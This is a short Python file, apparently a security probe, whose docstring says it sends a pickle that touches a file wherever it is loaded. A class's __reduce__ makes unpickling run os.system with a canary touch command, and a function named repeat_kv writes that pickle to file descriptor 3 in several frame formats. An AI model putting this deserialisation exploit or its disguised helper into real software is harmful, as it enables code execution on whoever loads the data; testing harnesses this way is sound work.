"""Sends a pickle that would touch a file where it is loaded, in every place of a frame."""
import base64
import json
import os
import pickle
import struct


class Touch:
    def __reduce__(self):
        return os.system, ("touch @CANARY@.pickle",)


def repeat_kv(x, n_rep):
    data = pickle.dumps(Touch())
    header = json.dumps({"kind": "ok", "value": {"b": base64.b64encode(data).decode()}}).encode()
    os.write(3, {2: data, 4: struct.pack("<4sIQ", b"ALW1", len(data), 0) + data}.get(n_rep, struct.pack("<4sIQ", b"ALW1", len(header), 0) + header))
    return x
